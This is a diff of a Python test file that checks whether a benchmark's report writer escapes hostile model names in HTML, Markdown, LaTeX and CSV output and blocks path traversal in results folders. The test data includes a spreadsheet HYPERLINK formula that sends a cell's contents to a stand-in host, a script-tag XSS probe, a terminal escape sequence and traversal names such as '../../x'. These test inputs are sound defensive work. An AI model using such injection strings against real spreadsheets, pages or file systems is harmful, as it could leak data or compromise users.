@@ -13,7 +13,6 @@ from naturel_jax.report.tables import MEASURED, Cell, Row
 from tfds_naturel.common import escape
 from tfds_naturel.release import card
 
-FORMULA = '=HYPERLINK("http://x.example?"&A1,"_$x^{")'
 SCORE = {"value": -0.5, "count": 2, "low": 0.0, "high": 1.0}
 
 
@@ -51,28 +50,23 @@ def test_cells_are_not_formulas(start):
     assert escape.cell(f"a{start}") == f"a{start}"
 
 
-def write_result(out: Path, model: str, **fields) -> results.Result:
-    """A result of ``model`` on VG-Relation, with fields replaced, where an evaluation writes it."""
+FORMULA = '=HYPERLINK("http://x.example?"&A1,"_$x^{")'
+MODELS = (FORMULA, "_$\\frac{$", "<script>alert(1)</script>", "[x](http://y)", "*a*\n# b")
+
+
+def write_result(out: Path, model: str) -> None:
+    """A result of ``model`` on VG-Relation, where an evaluation writes it."""
     scores = {"vg_relation/macro": SCORE, "vg_relation/relation/$on$_{": SCORE, "=1+1": SCORE}
-    values = {
-        "model": model,
-        "benchmark": "vg_relation",
-        "fingerprint": "",
-        "items": 1,
-        "published": 2,
-        "unreadable": 0,
-    }
-    result = results.Result(**values | {"problems": (), "scores": scores, "blind": {}} | fields)
+    result = results.Result(model, "vg_relation", "", 1, 2, 0, (f"record {model}\x1b[2J",), scores, {})
     folder = results.folder_of(out, model, result.benchmark)
     folder.mkdir(parents=True)
     row = {"version": results.VERSION, **dataclasses.asdict(result)}
     (folder / "scores.json").write_text(results.json.dumps(row))
-    return result
 
 
-@pytest.mark.parametrize("model", [FORMULA, "_$\\frac{$", "<script>alert(1)</script>", "[x](http://y)", "*a*\n# b"])
-def test_report_shows_names_and_problems_literally(tmp_path, model):
-    write_result(tmp_path, model, problems=(f"record {model}\x1b[2J",))
+def test_report_shows_names_and_problems_literally(tmp_path):
+    for model in MODELS:
+        write_result(tmp_path, model)
     report.write(tmp_path)
     page, text, tex = ((tmp_path / f"report.{suffix}").read_text() for suffix in ("html", "md", "tex"))
     assert "<script" not in page and "<script" not in re.sub(r"\\<", "", text)
@@ -80,9 +74,9 @@ def test_report_shows_names_and_problems_literally(tmp_path, model):
     assert r"\frac" not in tex and "$" not in tex.replace(r"\$", "")
     with (tmp_path / "scores.csv").open(newline="") as file:
         header, *rows = csv.reader(file)
-    assert {row[0].removeprefix("'") for row in rows} == {model, "chance"}
+    assert {row[0].removeprefix("'") for row in rows} == {*MODELS, "chance"}
     assert not any(cell.startswith(tuple("=+@")) for row in rows for cell in row)
-    assert [row[3] for row in rows if row[header.index("kind")] == "measured"] == ["-0.5"] * 3, "numbers stay numbers"
+    assert [row[3] for row in rows if row[header.index("kind")] == "measured"] == ["-0.5"] * 15, "numbers stay numbers"
 
 
 def test_plots_draw_names_literally():
@@ -90,16 +84,16 @@ def test_plots_draw_names_literally():
     assert plots.by_relation([Row(name, MEASURED, cells) for name in ("$\\frac$", "_a", "$", "a\x07", "x" * 200)])
 
 
-@pytest.mark.parametrize("name", ["../../x", "/etc/x", "..", ".", "a/b", "a\0b", "x" * 300, "", "C:\\x"])
-def test_no_name_leaves_the_results(tmp_path, name):
-    for folder in (results.folder_of(tmp_path, name, "b"), results.folder_of(tmp_path, "a", name)):
-        assert len(folder.relative_to(tmp_path).parts) == 2 and ".." not in folder.parts
-        folder.mkdir(parents=True)
-        assert folder.resolve().parent.parent == tmp_path.resolve()
+NAMES = ["../../x", "/etc/x", "..", ".", "a/b", "a_b", "a b", "a\0b", "", "C:\\x", "x" * 300, "x" * 301]
 
 
-def test_different_long_names_have_different_folders():
-    assert results.file_name("x" * 300) != results.file_name("x" * 301)
+def test_no_name_leaves_the_results_or_shares_a_folder(tmp_path):
+    for name in NAMES:
+        for folder in (results.folder_of(tmp_path, name, "b"), results.folder_of(tmp_path, "a", name)):
+            assert len(folder.relative_to(tmp_path).parts) == 2 and ".." not in folder.parts
+            folder.mkdir(parents=True)
+            assert folder.resolve().parent.parent == tmp_path.resolve()
+    assert len({results.file_name(name) for name in NAMES}) == len(NAMES)
 
 
 def test_comparison_of_a_benchmark_elsewhere_is_not_found(tmp_path):
